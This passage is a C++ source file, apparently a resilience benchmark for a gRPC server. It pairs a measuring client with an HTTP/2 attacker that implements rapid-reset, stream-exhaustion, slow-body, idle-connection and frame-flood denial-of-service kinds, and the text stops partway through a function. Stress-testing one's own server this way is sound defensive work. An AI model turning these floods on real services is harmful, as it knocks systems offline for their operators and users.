// sepal-attack: a hostile HTTP/2 peer and a well-behaved gRPC client, for bench/attacks.sh.
//
//   --role good:     grpc++ unary Echo calls at a fixed rate (open loop) on one connection bound
//                    to --bind; prints success rate and latency of the calls it made.
//   --role attacker: raw HTTP/2 (nghttp2 client sessions over non-blocking sockets bound to
//                    --bind, one epoll loop) doing one --kind of abuse until --duration ends;
//                    prints what it did and what the server answered.
// Each prints exactly one JSON line on stdout and exits on its own (a watchdog ends a run that
// overstays its duration by 20 s).
#include <arpa/inet.h>
#include <fcntl.h>
#include <grpcpp/create_channel_posix.h>
#include <grpcpp/grpcpp.h>
#include <netdb.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <nghttp2/nghttp2.h>
#include <poll.h>
#include <sys/epoll.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <atomic>
#include <cerrno>
#include <chrono>
#include <cmath>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <map>
#include <memory>
#include <mutex>
#include <optional>
#include <string>
#include <string_view>
#include <thread>
#include <utility>
#include <vector>

#include "tests/proto/echo.grpc.pb.h"

namespace {

using Clock = std::chrono::steady_clock;
using std::chrono::milliseconds;

constexpr int kExitOk = 0;
constexpr int kExitFailed = 1;
constexpr int kExitUsage = 2;
constexpr int kExitTimeout = 3;
constexpr auto kWatchdogGrace = std::chrono::seconds(20);

// ---- options ------------------------------------------------------------------------------

struct Options {
  std::string role;
  std::string kind;
  std::string target;  // HOST:PORT
  std::string bind_ip;
  std::string method = "/sepal.test.Echo/Unary";
  double duration_s = 5;
  // good: calls per second, and the part of the run whose calls are counted (by start time).
  double rate = 88;
  double window_from_s = 0;
  double window_to_s = -1;  // -1: the whole run
  // attacker: the kind's shape (0 = the kind's default).
  int connections = 0;
  int streams = 0;
  int sleep_ms = 3000;
  double reconnect_delay_s = 0;
};

constexpr std::string_view kKinds[] = {"rapid-reset",    "empty-data",     "slow-body",
                                       "excess-streams", "slow-calls",     "idle-conns",
                                       "ping-flood",     "settings-flood", "window-update-flood"};

void PrintHelp() {
  std::printf(
      "usage: sepal-attack --role good --target HOST:PORT --bind IP [--rate 88] [--duration 10s]\n"
      "                    [--window FROM:TO] [--method /sepal.test.Echo/Unary]\n"
      "       sepal-attack --role attacker --kind KIND --target HOST:PORT --bind IP\n"
      "                    [--duration 5s] [--connections N] [--streams N] [--sleep-ms 3000]\n"
      "                    [--reconnect-delay 0s]\n"
      "good: unary calls (each with a 2 s deadline) started at a fixed rate on one grpc++\n"
      "      connection whose source address is IP; --window counts only calls started in\n"
      "      [FROM, TO) seconds after the start (e.g. 1.5:7.5)\n"
      "attacker KINDs (connections x streams defaults):\n"
      "  rapid-reset          HEADERS + RST_STREAM(CANCEL) pairs as fast as possible (1)\n"
      "  empty-data           one stream, then empty DATA frames without END_STREAM (1)\n"
      "  slow-body            HEADERS without END_STREAM, never a body, held (256 x 8)\n"
      "  excess-streams       after the SETTINGS exchange, 100 streams more than the server\n"
      "                       advertises (356 against 256), headers only, held (1)\n"
      "  slow-calls           real Echo.Unary calls sleeping --sleep-ms in the backend,\n"
      "                       re-issued as each ends (4 x 256; calls past the server's\n"
      "                       SETTINGS_MAX_CONCURRENT_STREAMS wait, as in a gRPC client)\n"
      "  idle-conns           one Echo.Unary call per connection, then idle (3000 x 1)\n"
      "  ping-flood, settings-flood, window-update-flood   (1)\n"
      "every attacker connection reconnects (after --reconnect-delay) when the server closes it\n"
      "or sends GOAWAY. durations: 10s, 500ms, 1.5s\n");
}

int UsageError(const std::string& what) {
  std::fprintf(stderr, "sepal-attack: %s (see --help)\n", what.c_str());
  return kExitUsage;
}

std::optional<double> ParseSeconds(const std::string& text) {
  char* unit = nullptr;
  const double value = std::strtod(text.c_str(), &unit);
  if (unit == text.c_str() || !std::isfinite(value) || value < 0) return std::nullopt;
  const std::string_view suffix(unit);
  if (suffix == "ms") return value / 1e3;
  if (suffix == "s" || suffix.empty()) return value;
  return std::nullopt;
}

std::optional<int> ParseInt(const std::string& text, int min, int max) {
  char* end = nullptr;
  const long value = std::strtol(text.c_str(), &end, 10);
  if (end == text.c_str() || *end != '\0' || value < min || value > max) return std::nullopt;
  return static_cast<int>(value);
}

std::optional<int> ParseArgs(int argc, char** argv, Options& o) {
  for (int i = 1; i < argc; ++i) {
    std::string name = argv[i];
    if (name == "--help" || name == "-h") {
      PrintHelp();
      return kExitOk;
    }
    std::string value;
    if (const auto eq = name.find('='); eq != std::string::npos) {
      value = name.substr(eq + 1);
      name.resize(eq);
    } else if (i + 1 < argc) {
      value = argv[++i];
    } else {
      return UsageError("missing value after " + name);
    }
    bool ok = true;
    auto seconds = [&](double& field) {
      const auto parsed = ParseSeconds(value);
      if (parsed) field = *parsed;
      ok = parsed.has_value();
    };
    auto count = [&](int& field, int min, int max) {
      const auto parsed = ParseInt(value, min, max);
      if (parsed) field = *parsed;
      ok = parsed.has_value();
    };
    if (name == "--role") {
      o.role = value;
      ok = value == "good" || value == "attacker";
    } else if (name == "--kind") {
      o.kind = value;
      ok = std::find(std::begin(kKinds), std::end(kKinds), value) != std::end(kKinds);
    } else if (name == "--target") {
      o.target = value;
    } else if (name == "--bind") {
      o.bind_ip = value;
    } else if (name == "--method") {
      o.method = value;
    } else if (name == "--duration") {
      seconds(o.duration_s);
    } else if (name == "--rate") {
      char* end = nullptr;
      o.rate = std::strtod(value.c_str(), &end);
      ok = *end == '\0' && o.rate > 0 && o.rate <= 100000;
    } else if (name == "--window") {
      const auto colon = value.find(':');
      const auto from = ParseSeconds(value.substr(0, colon));
      const auto to =
          colon == std::string::npos ? std::nullopt : ParseSeconds(value.substr(colon + 1));
      ok = from && to && *from < *to;
      if (ok) {
        o.window_from_s = *from;
        o.window_to_s = *to;
      }
    } else if (name == "--connections") {
      count(o.connections, 1, 100000);
    } else if (name == "--streams") {
      count(o.streams, 1, 100000);
    } else if (name == "--sleep-ms") {
      count(o.sleep_ms, 0, 600000);
    } else if (name == "--reconnect-delay") {
      seconds(o.reconnect_delay_s);
    } else {
      return UsageError("unknown option " + name);
    }
    if (!ok) return UsageError("bad value for " + name + ": " + value);
  }
  if (o.role.empty()) return UsageError("--role is required");
  if (o.role == "attacker" && o.kind.empty()) return UsageError("--kind is required");
  if (o.target.empty()) return UsageError("--target is required");
  if (o.duration_s <= 0 || o.duration_s > 3600) return UsageError("--duration out of range");
  return std::nullopt;
}

// ---- output ---------------------------------------------------------------------------------

// A flat JSON object built field by field; printed once.
class JsonLine {
 public:
  JsonLine& Str(std::string_view key, std::string_view value) {
    std::string quoted = "\"";
    for (char c : value) {
      if (c == '"' || c == '\\') quoted += '\\';
      quoted += static_cast<unsigned char>(c) < 0x20 ? ' ' : c;
    }
    return Raw(key, quoted + "\"");
  }
  JsonLine& Int(std::string_view key, int64_t value) { return Raw(key, std::to_string(value)); }
  JsonLine& Num(std::string_view key, double value) {
    char text[48];
    std::snprintf(text, sizeof(text), "%.2f", std::isfinite(value) ? value : 0.0);
    return Raw(key, text);
  }
  // "name:count,name:count" of a tally, names in order; "" when empty.
  JsonLine& Tally(std::string_view key, const std::map<std::string, int64_t>& tally) {
    std::string text;
    for (const auto& [name, n] : tally) {
      if (!text.empty()) text += ',';
      text += name + ":" + std::to_string(n);
    }
    return Str(key, text);
  }
  void Print() const {
    static std::mutex mutex;
    const std::lock_guard lock(mutex);
    std::printf("{%s}\n", body_.c_str());
    std::fflush(stdout);
  }

 private:
  JsonLine& Raw(std::string_view key, const std::string& value) {
    if (!body_.empty()) body_ += ',';
    body_.append("\"").append(key).append("\":").append(value);
    return *this;
  }
  std::string body_;
};

void StartWatchdog(double duration_s) {
  std::thread([duration_s] {
    std::this_thread::sleep_for(std::chrono::duration<double>(duration_s) + kWatchdogGrace);
    JsonLine().Str("error", "timeout").Print();
    std::_Exit(kExitTimeout);
  }).detach();
}

double SecondsSince(Clock::time_point start) {
  return std::chrono::duration<double>(Clock::now() - start).count();
}

// ---- sockets --------------------------------------------------------------------------------

bool ResolveTarget(const std::string& target, sockaddr_in* out) {
  const auto colon = target.rfind(':');
  if (colon == std::string::npos) return false;
  addrinfo hints{};
  hints.ai_family = AF_INET;
  hints.ai_socktype = SOCK_STREAM;
  addrinfo* found = nullptr;
  if (getaddrinfo(target.substr(0, colon).c_str(), target.substr(colon + 1).c_str(), &hints,
                  &found) != 0) {
    return false;
  }
  std::memcpy(out, found->ai_addr, sizeof(*out));
  freeaddrinfo(found);
  return true;
}

// A non-blocking TCP socket bound to `bind_ip` (any port) with connect() started; -1 on error.
int StartConnect(const sockaddr_in& target, const std::string& bind_ip) {
  const int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
  if (fd < 0) return -1;
  const int one = 1;
  setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof(one));
  if (!bind_ip.empty()) {
    // The port is chosen at connect() by the whole 4-tuple, so thousands of connections from
    // one address do not run out of ports bind() would reserve.
    setsockopt(fd, IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, &one, sizeof(one));
    sockaddr_in local{};
    local.sin_family = AF_INET;
    if (inet_pton(AF_INET, bind_ip.c_str(), &local.sin_addr) != 1 ||
        bind(fd, reinterpret_cast<sockaddr*>(&local), sizeof(local)) != 0) {
      close(fd);
      return -1;
    }
  }
  if (connect(fd, reinterpret_cast<const sockaddr*>(&target), sizeof(target)) != 0 &&
      errno != EINPROGRESS) {
    close(fd);
    return -1;
  }
  return fd;
}

// Closes with RST (no TIME_WAIT left on the source address).
void AbortClose(int fd) {
  const linger reset{1, 0};
  setsockopt(fd, SOL_SOCKET, SO_LINGER, &reset, sizeof(reset));
  close(fd);
}

// ---- the good client ------------------------------------------------------------------------

using sepal::test::Echo;
using sepal::test::EchoRequest;
using sepal::test::EchoResponse;

std::string StatusName(grpc::StatusCode code) {
  static const char* const kNames[] = {"OK",
                                       "CANCELLED",
                                       "UNKNOWN",
                                       "INVALID_ARGUMENT",
                                       "DEADLINE_EXCEEDED",
                                       "NOT_FOUND",
                                       "ALREADY_EXISTS",
                                       "PERMISSION_DENIED",
                                       "RESOURCE_EXHAUSTED",
                                       "FAILED_PRECONDITION",
                                       "ABORTED",
                                       "OUT_OF_RANGE",
                                       "UNIMPLEMENTED",
                                       "INTERNAL",
                                       "UNAVAILABLE",
                                       "DATA_LOSS",
                                       "UNAUTHENTICATED"};
  const auto index = static_cast<std::size_t>(code);
  return index < std::size(kNames) ? kNames[index] : "CODE_" + std::to_string(index);
}

// grpc++ has no source-address option; it does take an already connected socket. The channel
// then lives and dies with that one connection, so the client makes a new one when calls
// start failing UNAVAILABLE (the server closed it, or sent GOAWAY).
class BoundChannel {
 public:
  BoundChannel(const Options& options, const sockaddr_in& target)
      : options_(options), target_(target) {}

  // A channel on a new connection, or nullptr if the connection cannot be made within 2 s.
  std::shared_ptr<grpc::Channel> Connect() {
    const int fd = StartConnect(target_, options_.bind_ip);
    if (fd < 0) return nullptr;
    pollfd pfd{fd, POLLOUT, 0};
    int error = 0;
    socklen_t length = sizeof(error);
    if (poll(&pfd, 1, 2000) != 1 || getsockopt(fd, SOL_SOCKET, SO_ERROR, &error, &length) != 0 ||
        error != 0) {
      close(fd);
      return nullptr;
    }
    grpc::ChannelArguments args;
    args.SetString(GRPC_ARG_DEFAULT_AUTHORITY, options_.target);
    return grpc::CreateCustomInsecureChannelFromFd(options_.target, fd, args);  // owns fd
  }

 private:
  const Options& options_;
  const sockaddr_in target_;
};

struct GoodCall {
  std::shared_ptr<grpc::Channel> channel;  // keeps the connection while the call runs
  std::unique_ptr<Echo::Stub> stub;
  Clock::time_point start;
  bool counted = false;  // started inside the window
  grpc::ClientContext context;
  EchoResponse response;
  grpc::Status status;
  std::unique_ptr<grpc::ClientAsyncResponseReader<EchoResponse>> reader;
};

double PercentileMs(std::vector<double>& sorted_ms, double fraction) {
  if (sorted_ms.empty()) return 0;
  auto rank = static_cast<std::size_t>(std::ceil(fraction * static_cast<double>(sorted_ms.size())));
  rank = std::clamp<std::size_t>(rank, 1, sorted_ms.size());
  return sorted_ms[rank - 1];
}

int RunGood(const Options& options) {
  sockaddr_in target{};
  if (!ResolveTarget(options.target, &target)) return UsageError("cannot resolve --target");
  BoundChannel dialer(options, target);
  const double window_to = options.window_to_s < 0 ? options.duration_s : options.window_to_s;

  grpc::CompletionQueue queue;
  std::mutex mutex;  // guards the tallies below
  std::vector<double> latencies_ms;
  std::map<std::string, int64_t> failures;
  std::map<std::string, std::string> messages;  // the first message of each failure status
  int64_t calls = 0;
  int64_t ok = 0;
  int64_t all_calls = 0;
  std::atomic<bool> saw_unavailable{false};

  std::thread reaper([&] {
    void* tag = nullptr;
    bool okay = false;
    while (queue.Next(&tag, &okay)) {
      std::unique_ptr<GoodCall> call(static_cast<GoodCall*>(tag));
      const double ms =
          std::chrono::duration<double, std::milli>(Clock::now() - call->start).count();
      if (call->status.error_code() == grpc::StatusCode::UNAVAILABLE) saw_unavailable = true;
      const std::lock_guard lock(mutex);
      ++all_calls;
      if (!call->counted) continue;
      ++calls;
      if (call->status.ok()) {
        ++ok;
        latencies_ms.push_back(ms);
      } else {
        std::string& example = messages[StatusName(call->status.error_code())];
        if (example.empty()) example = call->status.error_message().substr(0, 120);
        ++failures[StatusName(call->status.error_code())];
      }
    }
  });

  EchoRequest request;
  request.set_payload(std::string(100, 'g'));
  const auto start = Clock::now();
  const auto end = start + std::chrono::duration_cast<Clock::duration>(
                               std::chrono::duration<double>(options.duration_s));
  const auto interval = std::chrono::duration<double>(1.0 / options.rate);
  std::shared_ptr<grpc::Channel> channel = dialer.Connect();
  int64_t reconnects = 0;
  int64_t connect_failures = channel ? 0 : 1;
  auto last_connect = Clock::now();
  int64_t issued = 0;
  for (int64_t i = 0;; ++i) {
    const auto due = start + std::chrono::duration_cast<Clock::duration>(interval * i);
    if (due >= end) break;
    std::this_thread::sleep_until(due);
    const double at = std::chrono::duration<double>(due - start).count();
    const bool counted = at >= options.window_from_s && at < window_to;
    // A dead connection fails every call at once; at most one new connection per 200 ms.
    if (Clock::now() - last_connect > milliseconds(200) &&
        (!channel || saw_unavailable.exchange(false))) {
      last_connect = Clock::now();
      if (auto fresh = dialer.Connect()) {
        channel = std::move(fresh);
        ++reconnects;
      } else {
        ++connect_failures;
      }
    }
    if (!channel) {
      ++issued;
      const std::lock_guard lock(mutex);
      ++all_calls;
      if (counted) {
        ++calls;
        ++failures["CONNECT_FAILED"];
      }
      continue;
    }
    ++issued;
    auto call = std::make_unique<GoodCall>();
    call->channel = channel;
    call->stub = Echo::NewStub(channel);
    call->start = Clock::now();
    call->counted = counted;
    call->context.set_deadline(std::chrono::system_clock::now() + std::chrono::seconds(2));
    call->reader = call->stub->PrepareAsyncUnary(&call->context, request, &queue);
    call->reader->StartCall();
    GoodCall* raw = call.release();  // the queue hands it back to the reaper
    raw->reader->Finish(&raw->response, &raw->status, raw);
  }
  channel.reset();
  // Every call has a 2 s deadline, so the queue drains by then.
  for (int waited = 0; waited < 300; ++waited) {
    {
      const std::lock_guard lock(mutex);
      if (all_calls >= issued) break;
    }
    std::this_thread::sleep_for(milliseconds(10));
  }
  queue.Shutdown();
  reaper.join();

  std::sort(latencies_ms.begin(), latencies_ms.end());
  const double window_s = window_to - options.window_from_s;
  JsonLine line;
  line.Str("role", "good")
      .Int("calls", calls)
      .Int("ok", ok)
      .Num("ok_pct", calls > 0 ? 100.0 * static_cast<double>(ok) / static_cast<double>(calls) : 0)
      .Num("ok_per_s", static_cast<double>(ok) / window_s)
      .Num("p50_ms", PercentileMs(latencies_ms, 0.50))
      .Num("p99_ms", PercentileMs(latencies_ms, 0.99))
      .Num("max_ms", PercentileMs(latencies_ms, 1.0))
      .Tally("errors", failures);
  for (const auto& [name, n] : failures) line.Int(name, n);
  for (const auto& [name, text] : messages) line.Str("message_" + name, text);
  line.Int("all_calls", all_calls)
      .Int("reconnects", reconnects)
      .Int("connect_failures", connect_failures)
      .Num("rate", options.rate)
      .Num("window_s", window_s)
      .Print();
  return calls > 0 ? kExitOk : kExitFailed;
}

// ---- the attacker ---------------------------------------------------------------------------

constexpr std::size_t kHighWater = 1 << 20;   // nghttp2 waits while this much is unsent
constexpr std::size_t kLowWater = 64 * 1024;  // floods add frames while less is unsent
constexpr int kMaxConnecting = 256;           // connect() calls in progress at once
constexpr int kExcessStreams = 100;           // excess-streams: this many past the server's limit

enum class Kind {
  kRapidReset,
  kEmptyData,
  kSlowBody,
  kExcessStreams,
  kSlowCalls,
  kIdleConns,
  kPingFlood,
  kSettingsFlood,
  kWindowUpdateFlood
};

Kind ParseKind(std::string_view name) {
  for (std::size_t i = 0; i < std::size(kKinds); ++i) {
    if (kKinds[i] == name) return static_cast<Kind>(i);
  }
  return Kind::kRapidReset;  // ParseArgs checked the name
}

bool IsFlood(Kind kind) {
  return kind == Kind::kRapidReset || kind == Kind::kEmptyData || kind == Kind::kPingFlood ||
         kind == Kind::kSettingsFlood || kind == Kind::kWindowUpdateFlood;
}

std::string H2CodeName(uint32_t code) {
  const std::string name = nghttp2_http2_strerror(code);
  return name == "unknown" ? "CODE_" + std::to_string(code) : name;
}

// A frame header (9 bytes) for a raw frame appended after nghttp2's output.
void AppendFrameHeader(std::string& out, uint32_t length, uint8_t type, uint8_t flags,
                       int32_t stream_id) {
  const char header[9] = {static_cast<char>(length >> 16),    static_cast<char>(length >> 8),
                          static_cast<char>(length),          static_cast<char>(type),
                          static_cast<char>(flags),           static_cast<char>(stream_id >> 24),
                          static_cast<char>(stream_id >> 16), static_cast<char>(stream_id >> 8),
                          static_cast<char>(stream_id)};
  out.append(header, sizeof(header));
}

class Attack;

struct Conn {
  Attack* owner = nullptr;
  int fd = -1;
  bool connecting = false;
  bool established = false;
  bool closing = false;  // GOAWAY seen or a fatal error: close after this round
  uint32_t epoll_mask = 0;
  nghttp2_session* session = nullptr;
  std::string out;  // bytes for the socket
  std::size_t out_offset = 0;
  std::string in;  // received bytes not yet a whole frame
  bool server_settings_seen = false;
  bool first_ack_passed = false;  // the server's ACK of nghttp2's own SETTINGS
  bool opened = false;            // the kind's initial streams went out
  int32_t flood_stream = -1;      // empty-data: the stream the DATA frames go to
  int to_issue = 0;               // slow-calls: calls to start again
  std::optional<Clock::time_point> reconnect_at;

  std::size_t Unsent() const { return out.size() - out_offset; }
};

struct AttackStats {
  int64_t connects = 0;  // connections established
  int64_t connect_failures = 0;
  int64_t reconnects = 0;        // established connections the server ended (close or GOAWAY)
  int64_t closed_by_server = 0;  // EOF or RST from the server
  int64_t max_open = 0;          // established at once
  int64_t streams_opened = 0;
  int64_t resets_sent = 0;
  int64_t frames_sent = 0;  // raw flood frames (DATA, PING, SETTINGS, WINDOW_UPDATE)
  int64_t responses = 0;    // response HEADERS blocks
  int64_t goaways = 0;
  int64_t refused_streams = 0;
  int64_t settings_acks = 0;  // ACKs of flood SETTINGS
  int64_t ping_acks = 0;
  int64_t bytes_sent = 0;
  int64_t bytes_received = 0;
  int64_t parse_errors = 0;
  uint32_t advertised_max_streams = 0;
  int64_t goaway_last_stream_id = -1;  // of the first GOAWAY
  std::map<std::string, int64_t> goaway_codes;
  std::map<std::string, int64_t> rst_codes;  // RST_STREAM received
  std::map<std::string, int64_t> grpc_statuses;
};

class Attack {
 public:
  Attack(const Options& options, const sockaddr_in& target)
      : options_(options), kind_(ParseKind(options.kind)), target_(target) {
    switch (kind_) {
      case Kind::kSlowBody:
        connections_ = 256;
        streams_ = 8;
        break;
      case Kind::kSlowCalls:
        connections_ = 4;
        streams_ = 256;
        break;
      case Kind::kIdleConns:
        connections_ = 3000;
        streams_ = 1;
        break;
      default:
        connections_ = 1;
        streams_ = 1;
        break;
    }
    if (options.connections > 0) connections_ = options.connections;
    if (options.streams > 0) streams_ = options.streams;
    EchoRequest request;
    if (kind_ == Kind::kSlowCalls) request.set_sleep_ms(static_cast<uint32_t>(options.sleep_ms));
    const std::string message = request.SerializeAsString();
    body_.assign(1, '\0');
    const auto length = static_cast<uint32_t>(message.size());
    for (int shift = 24; shift >= 0; shift -= 8) body_ += static_cast<char>(length >> shift);
    body_ += message;
    headers_ = {{":method", "POST"},
                {":scheme", "http"},
                {":path", options.method},
                {":authority", options.target},
                {"content-type", "application/grpc"},
                {"te", "trailers"},
                {"user-agent", "sepal-attack"}};
    for (const auto& [name, value] : headers_) {
      nva_.push_back({reinterpret_cast<uint8_t*>(const_cast<char*>(name.data())),
                      reinterpret_cast<uint8_t*>(const_cast<char*>(value.data())), name.size(),
                      value.size(), NGHTTP2_NV_FLAG_NONE});
    }
  }

  Attack(const Attack&) = delete;
  Attack& operator=(const Attack&) = delete;
  ~Attack() {
    for (auto& conn : conns_) Drop(*conn);
    if (epoll_fd_ >= 0) close(epoll_fd_);
  }

  int Run() {
    epoll_fd_ = epoll_create1(EPOLL_CLOEXEC);
    if (epoll_fd_ < 0) return kExitFailed;
    RaiseFdLimit();
    const auto start = Clock::now();
    const auto end = start + std::chrono::duration_cast<Clock::duration>(
                                 std::chrono::duration<double>(options_.duration_s));
    for (int i = 0; i < connections_; ++i) {
      conns_.push_back(std::make_unique<Conn>());
      conns_.back()->owner = this;
      conns_.back()->reconnect_at = start;
    }
    std::vector<epoll_event> events(1024);
    auto last_sweep = Clock::time_point{};
    while (Clock::now() < end) {
      const auto now = Clock::now();
      if (now - last_sweep >= milliseconds(5)) {
        last_sweep = now;
        Sweep(now);
      }
      const int n = epoll_wait(epoll_fd_, events.data(), static_cast<int>(events.size()), 5);
      for (int i = 0; i < n; ++i) {
        Conn& conn = *static_cast<Conn*>(events[static_cast<std::size_t>(i)].data.ptr);
        OnEvent(conn, events[static_cast<std::size_t>(i)].events);
      }
    }
    Report(SecondsSince(start));
    return stats_.connects > 0 ? kExitOk : kExitFailed;
  }

  // --- nghttp2 callbacks ---

  static Conn& Of(void* user_data) { return *static_cast<Conn*>(user_data); }

  static ssize_t OnSend(nghttp2_session*, const uint8_t* data, size_t length, int, void* user) {
    Conn& conn = Of(user);
    if (conn.Unsent() >= kHighWater) return NGHTTP2_ERR_WOULDBLOCK;
    conn.out.append(reinterpret_cast<const char*>(data), length);
    return static_cast<ssize_t>(length);
  }

  static ssize_t ReadBody(nghttp2_session*, int32_t, uint8_t* buf, size_t length, uint32_t* flags,
                          nghttp2_data_source* source, void*) {
    const auto* body = static_cast<const std::string*>(source->ptr);
    if (length < body->size()) return NGHTTP2_ERR_TEMPORAL_CALLBACK_FAILURE;
    std::memcpy(buf, body->data(), body->size());
    *flags |= NGHTTP2_DATA_FLAG_EOF;
    return static_cast<ssize_t>(body->size());
  }

  static int OnHeader(nghttp2_session*, const nghttp2_frame* frame, const uint8_t* name,
                      size_t name_len, const uint8_t* value, size_t value_len, uint8_t,
                      void* user) {
    if (frame->hd.type != NGHTTP2_HEADERS) return 0;
    if (std::string_view(reinterpret_cast<const char*>(name), name_len) != "grpc-status") return 0;
    // Tallied as it arrives: a GOAWAY may end the connection before the stream closes.
    const int code =
        std::atoi(std::string(reinterpret_cast<const char*>(value), value_len).c_str());
    ++Of(user).owner->stats_.grpc_statuses[StatusName(static_cast<grpc::StatusCode>(code))];
    return 0;
  }

  static int OnFrameRecv(nghttp2_session*, const nghttp2_frame* frame, void* user) {
    Conn& conn = Of(user);
    AttackStats& stats = conn.owner->stats_;
    switch (frame->hd.type) {
      case NGHTTP2_HEADERS:
        if (frame->headers.cat == NGHTTP2_HCAT_RESPONSE) ++stats.responses;
        break;
      case NGHTTP2_RST_STREAM:
        ++stats.rst_codes[H2CodeName(frame->rst_stream.error_code)];
        if (frame->rst_stream.error_code == NGHTTP2_REFUSED_STREAM) ++stats.refused_streams;
        break;
      case NGHTTP2_GOAWAY:
        ++stats.goaways;
        ++stats.goaway_codes[H2CodeName(frame->goaway.error_code)];
        if (stats.goaway_last_stream_id < 0)
          stats.goaway_last_stream_id = frame->goaway.last_stream_id;
        conn.closing = true;
        break;
      case NGHTTP2_SETTINGS:
        if (!(frame->hd.flags & NGHTTP2_FLAG_ACK)) conn.server_settings_seen = true;
        break;
      default:
        break;
    }
    return 0;
  }

  static int OnStreamClose(nghttp2_session*, int32_t stream_id, uint32_t, void* user) {
    Conn& conn = Of(user);
    Attack& self = *conn.owner;
    if (self.kind_ == Kind::kSlowCalls) ++conn.to_issue;
    if (self.kind_ == Kind::kEmptyData && stream_id == conn.flood_stream) conn.flood_stream = -1;
    return 0;
  }

 private:
  void RaiseFdLimit() {
    rlimit limit{};
    getrlimit(RLIMIT_NOFILE, &limit);
    limit.rlim_cur = limit.rlim_max;
    setrlimit(RLIMIT_NOFILE, &limit);
    getrlimit(RLIMIT_NOFILE, &limit);
    fd_limit_ = static_cast<int64_t>(limit.rlim_cur);
    const int64_t room = fd_limit_ - 64;  // stdio, epoll, grpc's own
    if (connections_ > room) {
      std::fprintf(stderr,
                   "sepal-attack: %d connections are over RLIMIT_NOFILE (%lld); using %lld\n",
                   connections_, static_cast<long long>(fd_limit_), static_cast<long long>(room));
      capped_from_ = connections_;
      connections_ = static_cast<int>(std::max<int64_t>(1, room));
    }
  }

  // Starts due (re)connections, at most kMaxConnecting at once.
  void Sweep(Clock::time_point now) {
    for (auto& owned : conns_) {
      Conn& conn = *owned;
      if (conn.fd >= 0 || !conn.reconnect_at || *conn.reconnect_at > now) continue;
      if (connecting_ >= kMaxConnecting) break;
      conn.reconnect_at.reset();
      conn.fd = StartConnect(target_, options_.bind_ip);
      if (conn.fd < 0) {
        ++stats_.connect_failures;
        conn.reconnect_at = now + milliseconds(100);
        continue;
      }
      conn.connecting = true;
      ++connecting_;
      conn.epoll_mask = EPOLLIN | EPOLLOUT;
      epoll_event event{conn.epoll_mask, {&conn}};
      epoll_ctl(epoll_fd_, EPOLL_CTL_ADD, conn.fd, &event);
    }
  }

  void OnEvent(Conn& conn, uint32_t events) {
    if (conn.fd < 0) return;
    if (conn.connecting) {
      int error = 0;
      socklen_t length = sizeof(error);
      getsockopt(conn.fd, SOL_SOCKET, SO_ERROR, &error, &length);
      if (error != 0 || (events & (EPOLLERR | EPOLLHUP))) {
        ++stats_.connect_failures;
        Drop(conn);
        conn.reconnect_at = Clock::now() + milliseconds(100);
        return;
      }
      if (!(events & EPOLLOUT)) return;
      conn.connecting = false;
      --connecting_;
      if (!Establish(conn)) return;
    }
    if (events & (EPOLLIN | EPOLLERR | EPOLLHUP)) ReadAll(conn);
    Pump(conn);
  }

  bool Establish(Conn& conn) {
    nghttp2_session_callbacks* callbacks = nullptr;
    nghttp2_session_callbacks_new(&callbacks);
    nghttp2_session_callbacks_set_send_callback(callbacks, &Attack::OnSend);
    nghttp2_session_callbacks_set_on_header_callback(callbacks, &Attack::OnHeader);
    nghttp2_session_callbacks_set_on_frame_recv_callback(callbacks, &Attack::OnFrameRecv);
    nghttp2_session_callbacks_set_on_stream_close_callback(callbacks, &Attack::OnStreamClose);
    nghttp2_option* option = nullptr;
    nghttp2_option_new(&option);
    nghttp2_option_set_no_http_messaging(option, 1);
    const int rc = nghttp2_session_client_new2(&conn.session, callbacks, &conn, option);
    nghttp2_option_del(option);
    nghttp2_session_callbacks_del(callbacks);
    if (rc != 0) {
      Drop(conn);
      conn.reconnect_at = Clock::now() + milliseconds(100);
      return false;
    }
    conn.established = true;
    ++stats_.connects;
    stats_.max_open = std::max(stats_.max_open, ++open_);
    const nghttp2_settings_entry settings[] = {{NGHTTP2_SETTINGS_ENABLE_PUSH, 0},
                                               {NGHTTP2_SETTINGS_INITIAL_WINDOW_SIZE, 1 << 20}};
    nghttp2_submit_settings(conn.session, NGHTTP2_FLAG_NONE, settings, std::size(settings));
    nghttp2_session_send(conn.session);
    switch (kind_) {
      case Kind::kSlowBody:
        for (int i = 0; i < streams_; ++i) OpenStream(conn, false);
        conn.opened = true;
        break;
      case Kind::kSlowCalls:
        conn.to_issue = streams_;
        break;
      case Kind::kIdleConns:
        for (int i = 0; i < streams_; ++i) OpenStream(conn, true);
        conn.opened = true;
        break;
      default:
        break;  // floods start in Pump; excess-streams waits for the server's SETTINGS
    }
    return true;
  }

  // HEADERS for the Echo method; with a body (a whole gRPC request, END_STREAM after it) or
  // without (the stream stays open, its request never completes). Returns the stream id.
  int32_t OpenStream(Conn& conn, bool with_body) {
    nghttp2_data_provider provider{};
    provider.source.ptr = &body_;
    provider.read_callback = &Attack::ReadBody;
    const int32_t id = with_body
                           ? nghttp2_submit_request(conn.session, nullptr, nva_.data(), nva_.size(),
                                                    &provider, nullptr)
                           : nghttp2_submit_headers(conn.session, NGHTTP2_FLAG_NONE, -1, nullptr,
                                                    nva_.data(), nva_.size(), nullptr);
    if (id < 0) {
      conn.closing = true;  // after GOAWAY no new stream may start
      return id;
    }
    ++stats_.streams_opened;
    return id;
  }

  void ReadAll(Conn& conn) {
    char buffer[64 * 1024];
    for (;;) {
      const ssize_t n = read(conn.fd, buffer, sizeof(buffer));
      if (n > 0) {
        stats_.bytes_received += n;
        conn.in.append(buffer, static_cast<std::size_t>(n));
        continue;
      }
      if (n < 0 && errno == EINTR) continue;
      if (n < 0 && (errno == EAGAIN || errno == EWOULDBLOCK)) break;
      ++stats_.closed_by_server;  // EOF, ECONNRESET
      Feed(conn);
      Lost(conn);
      return;
    }
    Feed(conn);
  }

  // Hands whole frames to nghttp2, after two edits: for excess-streams, the server's
  // SETTINGS_MAX_CONCURRENT_STREAMS is lifted (always recorded first), so nghttp2 opens streams
  // past it (the other kinds queue their streams past it, as gRPC clients do); and the ACKs of
  // flood PINGs and SETTINGS, which nghttp2 did not send, are counted and dropped.
  void Feed(Conn& conn) {
    if (!conn.session) return;
    std::string frames;
    std::size_t at = 0;
